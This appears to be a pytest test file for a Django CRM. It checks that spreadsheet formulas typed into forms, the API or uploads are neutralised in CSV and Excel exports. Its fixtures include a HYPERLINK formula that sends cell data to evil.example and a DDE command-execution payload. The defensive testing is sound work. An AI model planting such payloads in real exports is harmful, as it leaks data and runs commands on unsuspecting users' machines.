"""Issue #23, finding 1: text a stranger typed never reaches a colleague's spreadsheet as a formula.

The public contact form, the API and an upload each carry a formula; the exports and the error report are
opened the way a colleague opens them (csv with ';', openpyxl) and no cell may be a formula.  A NUL a lead
already holds no longer breaks the Excel export, and numbers and dates stay numbers and dates.
"""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from isf.campaigns.models import Lead
from isf.customers.models import Account
from isf.customers.tests.factories import AccountFactory
from isf.imports.exports import read_back
from isf.imports.models import ImportJob
from isf.org.choices import Role
from isf.org.services import api_token_create
from isf.org.tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)  # 10:30 in Berlin


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(read_back(response).decode("utf-8-sig")), delimiter=";"))


def workbook_cells(response) -> list[list]:
    """Every cell of the export's sheet (openpyxl cells, so type and value can be checked)."""
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(read_back(response))).active
    return [list(row) for row in sheet.iter_rows()]


def formulas(cells: list[list]) -> list[str]:
    return [c.coordinate for row in cells for c in row if c.data_type == "f"]


def column(cells: list[list], header: str) -> list:
    index = [c.value for c in cells[0]].index(header)
    return [row[index] for row in cells[1:]]


def export(client, name: str, fmt: str):
    return client.get(reverse("imports:export", args=[name, fmt]), HTTP_ACCEPT_LANGUAGE="en")


@pytest.fixture
def idl(client):
    user = UserFactory(role=Role.INSIDE_LEAD)
    client.force_login(user)
    return user


def test_a_formula_sent_through_the_public_contact_form_reaches_the_lead_exports_as_text(client, time_machine):
    time_machine.move_to(NOW, tick=False)
    response = client.post("/campaigns/contact/", {"company": "Formel Bau GmbH", "email": "info@formel.example",
                                                   "city": HYPERLINK, "consent": "on"})
    assert response.status_code == 200
    assert Lead.objects.get().city == HYPERLINK  # stored as typed: only the spreadsheet files neutralise
    client.force_login(UserFactory(role=Role.INSIDE_LEAD))

    cells = workbook_cells(export(client, "leads", "xlsx"))
    assert formulas(cells) == []
    [city] = column(cells, "city")
    assert (city.value, city.data_type) == (HYPERLINK, "s")

    table = csv_rows(export(client, "leads", "csv"))
    city_at = table[0].index("city")
    assert [row[city_at] for row in table[1:]] == ["'" + HYPERLINK]
    assert table[1][table[0].index("company")] == "Formel Bau GmbH"


def test_a_formula_posted_to_the_accounts_api_reaches_the_account_exports_as_text(client, idl):
    _token, raw = api_token_create(user=idl, name="test")
    body = {"erp_number": "4711", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "city": "+49 40 123", "street": "-2+3"}
    response = client.post("/api/v1/accounts", body, content_type="application/json",
                           HTTP_AUTHORIZATION=f"Bearer {raw}")
    assert response.status_code == 201
    account = Account.objects.get(erp_number="4711")
    assert (account.name, account.city, account.street) == (body["name"], body["city"], body["street"])

    cells = workbook_cells(export(client, "accounts", "xlsx"))
    assert formulas(cells) == []
    [row] = cells[1:]
    assert [(c.value, c.data_type) for c in (row[0], row[1], row[2], row[4])] == [
        ("4711", "s"), (body["name"], "s"), ("-2+3", "s"), ("+49 40 123", "s")]

    table = csv_rows(export(client, "accounts", "csv"))
    assert [table[1][i] for i in (0, 1, 2, 4)] == ["4711", "'" + body["name"], "'-2+3", "'+49 40 123"]


def test_the_import_error_report_repeats_an_uploaded_formula_neutralised(client, idl, settings, tmp_path):
    settings.DATA_DIR = tmp_path
    AccountFactory(erp_number="10001")
    body = "customer_number;first_name;last_name\r\n10001;Anna;Schmidt\r\n=1+1;Max;@Muster\r\n"
    client.post(reverse("imports:list"), {"kind": "contacts", "file": SimpleUploadedFile("kontakte.csv", body.encode())})
    job = ImportJob.objects.get()
    client.post(reverse("imports:job", args=[job.pk]), {}, HTTP_ACCEPT_LANGUAGE="en")  # the report in English
    job.refresh_from_db()
    assert (job.status, job.errors) == ("failed", 1)

    report = client.get(reverse("imports:job-errors", args=[job.pk]))
    rows = list(csv.reader(io.StringIO(read_back(report).decode("utf-8-sig")), delimiter=";"))
    assert rows == [["file", "row", "column", "value", "message"],
                    ["kontakte.csv", "3", "customer_number", "'=1+1", "unknown customer number"]]
    # the job page shows the value as uploaded: the quote belongs to the spreadsheet file only
    page = client.get(reverse("imports:job", args=[job.pk]), HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "<td>3</td><td>customer_number</td><td>=1+1</td>" in page


def test_a_nul_in_a_stored_lead_no_longer_breaks_the_excel_export(client, idl, time_machine):
    time_machine.move_to(NOW, tick=False)
    client.post("/campaigns/contact/", {"company": "Nullbau GmbH", "email": "info@nullbau.example",
                                        "consent": "on"})
    # stored before control characters were refused anywhere (the API took them): the export must cope with
    # what is there. PostgreSQL itself refuses NUL in text, so there the test stores another C0 character.
    nul = "\x00" if connection.vendor == "sqlite" else "\x01"
    Lead.objects.update(company=f"Null{nul}bau\x1f GmbH", contact_name=f"{nul}=1+1")

    cells = workbook_cells(export(client, "leads", "xlsx"))
    assert formulas(cells) == []
    [company] = column(cells, "company")
    [contact] = column(cells, "contact person")
    assert (company.value, contact.value, contact.data_type) == ("Nullbau GmbH", "=1+1", "s")

    table = csv_rows(export(client, "leads", "csv"))
    assert table[1][:2] == ["Nullbau GmbH", "'=1+1"]


def test_numbers_and_dates_stay_numbers_and_dates(client, idl, time_machine):
    time_machine.move_to(NOW, tick=False)
    client.post("/campaigns/contact/", {"company": "Zahlen GmbH", "email": "info@zahlen.example", "consent": "on"})
    Lead.objects.update(potential=Decimal("1234.50"), score=Decimal("-7.5"), postcode="-12")

    cells = workbook_cells(export(client, "leads", "xlsx"))
    [potential] = column(cells, "potential (EUR)")
    [score] = column(cells, "score")
    [created] = column(cells, "created (Europe/Berlin, UTC+01:00/+02:00)")
    [postcode] = column(cells, "postcode")
    assert (potential.value, potential.data_type) == (1234.5, "n")
    assert (score.value, score.data_type) == (-7.5, "n")
    assert (created.value, created.is_date) == (datetime(2026, 3, 2, 10, 30), True)  # Berlin time, as on screen
    assert (postcode.value, postcode.data_type) == ("-12", "s")  # a text stays text, even when it looks like a number

    table = csv_rows(export(client, "leads", "csv"))
    header, row = table
    created = "created (Europe/Berlin, UTC+01:00/+02:00)"  # company time, the zone and its offsets in the header
    assert {h: row[header.index(h)] for h in ("potential (EUR)", "score", created, "postcode")} == {
        "potential (EUR)": "1234,50", "score": "-7,5", created: "02.03.2026 10:30", "postcode": "-12"}


@pytest.fixture
def formula_everywhere(db):
    """One row for every export, every text a stranger or a careless colleague could have typed a formula."""
    from isf.campaigns.models import CallListEntry, Campaign
    from isf.customers.tests.factories import ContactFactory
    from isf.planning.services import task_create
    from isf.service.models import ServiceCatalogEntry
    from isf.service.services import service_order_create

    boss = UserFactory(role=Role.SALES_LEAD, is_superuser=True, first_name="=Boss", last_name="Chef")
    account = AccountFactory(erp_number="=1+1", name=HYPERLINK, city="@SUM(A1)", street="-2+3", owner=boss)
    ContactFactory(account=account, first_name="+Anna", last_name=HYPERLINK, function="\t=1", email="a@b.example")
    task_create(kind="care_call", title=HYPERLINK, due_at=NOW, assignee=boss, account=account)
    Lead.objects.create(company=HYPERLINK, contact_name="-2+3", city="@x", email="lead@b.example")
    campaign = Campaign.objects.create(name=HYPERLINK)
    CallListEntry.objects.create(campaign=campaign, account=account, agent=boss)
    quote_prep = ServiceCatalogEntry.objects.get(code="quote_prep")  # the data migration loads the catalog
    service_order_create(service=quote_prep, account=account, requester=boss, inputs={"products": HYPERLINK},
                         now=NOW)
    return boss


@pytest.mark.parametrize("name", ["accounts", "contacts", "tasks", "leads", "service_orders", "campaign_results"])
def test_no_export_holds_a_formula(client, formula_everywhere, time_machine, name):
    from isf.imports.exportlists import EXPORTS

    assert name in EXPORTS
    time_machine.move_to(NOW, tick=False)
    client.force_login(formula_everywhere)
    cells = workbook_cells(export(client, name, "xlsx"))
    assert len(cells) == 2 and formulas(cells) == []
    assert (HYPERLINK, "s") in [(c.value, c.data_type) for c in cells[1]]

    table = csv_rows(export(client, name, "csv"))
    assert len(table) == 2
    assert "'" + HYPERLINK in table[1]
    evaluated = [cell for cell in table[1] if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert evaluated == []
